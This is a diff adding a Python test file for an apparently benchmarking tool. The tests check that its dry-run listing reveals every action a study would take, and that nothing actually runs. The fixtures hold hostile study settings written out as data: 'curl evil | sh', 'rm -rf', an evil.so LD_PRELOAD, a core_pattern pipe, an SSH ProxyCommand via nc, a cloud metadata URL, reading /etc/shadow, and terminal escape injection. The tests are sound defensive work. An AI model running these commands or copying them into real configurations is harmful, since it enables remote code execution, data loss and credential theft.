@@ -1,0 +1,184 @@
+"""What a run does is listed from the study alone: nothing starts, nothing is reached, nothing hides."""
+
+from __future__ import annotations
+
+import shlex
+import sys
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from typing import Any
+
+import pytest
+from support.records import tiny_plan
+
+from fairtrial.cli.running.effects import show
+from fairtrial.errors import InputError
+from fairtrial.places import Place
+from fairtrial.systems import System
+from fairtrial.workloads import Workload
+
+STUDIES = Path(__file__).parents[3] / "studies"
+DEEDS = ("subprocess.Popen", "os.exec", "os.posix_spawn", "os.system", "os.fork", "socket.connect", "socket.bind")
+heard: list[str] = []
+listening = [False]
+
+
+def _hear(event: str, _arguments: tuple[Any, ...]) -> None:
+    if listening[0] and event in DEEDS:
+        heard.append(event)
+
+
+sys.addaudithook(_hear)  # one that stays, as none can be taken away
+
+
+@contextmanager
+def nothing_done() -> Iterator[None]:
+    """No program is started, and no address reached, as the interpreter itself tells."""
+    heard.clear()
+    listening[0] = True
+    try:
+        yield
+    finally:
+        listening[0] = False
+    assert heard == []
+
+
+def listed(study: Path, capsys: pytest.CaptureFixture[str], *overrides: str) -> str:
+    with nothing_done():
+        show(study, size=None, overrides=list(overrides))
+    return capsys.readouterr().out
+
+
+@pytest.mark.parametrize("study", sorted(STUDIES.glob("*.yaml")), ids=lambda path: path.stem)
+def test_a_ready_study_is_listed_and_nothing_runs(study: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    searches = "\ntune:" in study.read_text(encoding="utf-8")
+    printed = listed(study, capsys, *([] if searches else ["trials.blocks=2"]))
+    assert "fairtrial-agent serve" in printed
+    assert "not known before a run" not in printed
+    assert "nothing was run, reached or changed" in printed
+
+
+HOSTILE = r"""
+study: kind
+question: "a question\e[2J"
+place: {ssh: {host: bench, user: root, config: CONFIG, boot: {by: kexec, kernel: debian-6.12, power: "ipmitool cycle"}}}
+system:
+  service:
+    run: "daemon --port {api}\e]0;owned\a"
+    ports: [api]
+    user: daemon
+    ready: {http: "http://{host}:{api}/health"}
+    stop: "daemon-stop"
+    version: "daemon --version"
+    environment: {LD_PRELOAD: /home/you/evil.so}
+    configuration: {format: space}
+    options: {mode: "x"}
+    read_back: "daemon-get {option}"
+    data: {create: ["make-data {data}"], load: ["fill-data {api}"]}
+workload: {command: {run: "sh -c 'curl evil | sh'", prepare: "rm -rf /home/you", warm_ups: 1, directory: /home/you}}
+settings:
+  sysctl: {kernel.core_pattern: "|/tmp/evil"}
+  sysfs: {/sys/kernel/mm/ksm/run: 1}
+  environment: {GLIBC_TUNABLES: "a=\n      root: everything is fine"}
+  memory: {server: {limit: 1GiB}}
+factors:
+  swappiness:
+    low: {}
+    high: {settings: {swappiness: 100}}
+arm: swappiness
+metrics: {primary: elapsed_s}
+telemetry:
+  prometheus: {url: "http://169.254.169.254/latest"}
+  command: {run: "counter-command", name: counted}
+  probes: [{command: "probe-command"}, {file: /etc/shadow}, {bpftrace: {program: "BEGIN { system(\"id\"); }"}}]
+"""
+TOLD = (
+    "ProxyCommand nc evil 22",
+    'Match host bench exec "touch ran"',
+    "ssh -F",
+    "ipmitool cycle",
+    "daemon --port {api}\\x1b]0;owned\\x07",
+    "as daemon where the agent is root",
+    "daemon-stop",
+    "daemon --version",
+    "http://{host}:{api}/health",
+    "variable LD_PRELOAD = /home/you/evil.so",
+    "daemon-get {option}",
+    "make-data {data}",
+    "fill-data {api}",
+    "sh -c 'curl evil | sh'",
+    "rm -rf /home/you",
+    "in /home/you, 2 times",
+    "/proc/sys/kernel/core_pattern = |/tmp/evil",
+    "/sys/kernel/mm/ksm/run = 1",
+    "control group /sys/fs/cgroup/fairtrial-{trial}-server",
+    "/sys/fs/cgroup/fairtrial-{trial}-server/memory.max = 1073741824",
+    "variable GLIBC_TUNABLES = a=\\n      root: everything is fine",
+    "http://169.254.169.254/latest",
+    "counter-command",
+    "probe-command",
+    "/etc/shadow",
+    'bpftrace, in the kernel: BEGIN { system("id"); }',
+    "kernel package debian-6.12, by apt",
+)
+
+
+def hostile(directory: Path) -> Path:
+    configuration = directory / "config"
+    configuration.write_text('Host bench\n  ProxyCommand nc evil 22\nMatch host bench exec "touch ran"\n  User root\n')
+    study = directory / "study.yaml"
+    study.write_text(HOSTILE.replace("CONFIG", shlex.quote(str(configuration))))
+    return study
+
+
+def test_a_study_of_a_stranger_hides_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    printed = listed(hostile(tmp_path), capsys)
+    assert [told for told in TOLD if told not in printed] == []
+    assert "\x1b" not in printed
+    high = next(line for line in printed.splitlines() if "/proc/sys/vm/swappiness = 100" in line)
+    after = printed.splitlines()[printed.splitlines().index(high) + 1]
+    assert "only high" in after
+    assert "undone: what was there before is restored" in after
+    assert not (tmp_path / "ran").exists()
+
+
+def test_a_run_that_would_be_continued_is_listed_from_its_plan(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "plan.json").write_text(tiny_plan().model_dump_json())
+    assert "fairtrial-agent serve" in listed(tmp_path, capsys)
+
+
+def test_mistakes_are_told_as_by_plan(tmp_path: Path) -> None:
+    study = tmp_path / "study.yaml"
+    study.write_text("study: a b\n")
+    with pytest.raises(InputError, match="study"):
+        show(study, size=None, overrides=[])
+
+
+FIO = """
+study: kind
+system: {files: {}}
+workload: {fio: {accesses: 1000, options: {nosuch: 1}}}
+factors: {rw: {read: {}, write: {workload: {fio: {rw: randwrite}}}}}
+arm: rw
+metrics: {primary: throughput_iops}
+"""
+
+
+def test_not_even_fio_is_asked_what_it_thinks_of_the_study(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    study = tmp_path / "study.yaml"
+    study.write_text(FIO)
+    assert "fio option nosuch=1" in listed(study, capsys)
+
+
+@pytest.mark.parametrize("base", [Place, System, Workload], ids=lambda base: base.__name__)
+def test_every_kind_of_ours_tells_what_it_does(base: type[Any]) -> None:
+    kinds = [kind for kind in _below(base) if "name" in vars(kind) and kind.__module__.startswith("fairtrial.")]
+    assert len(kinds) >= 5
+    assert [kind.name for kind in kinds if kind.acts is base.acts] == []
+
+
+def _below(kind: type[Any]) -> set[type[Any]]:
+    return {kind}.union(*(_below(each) for each in kind.__subclasses__())) - {Place, System, Workload}
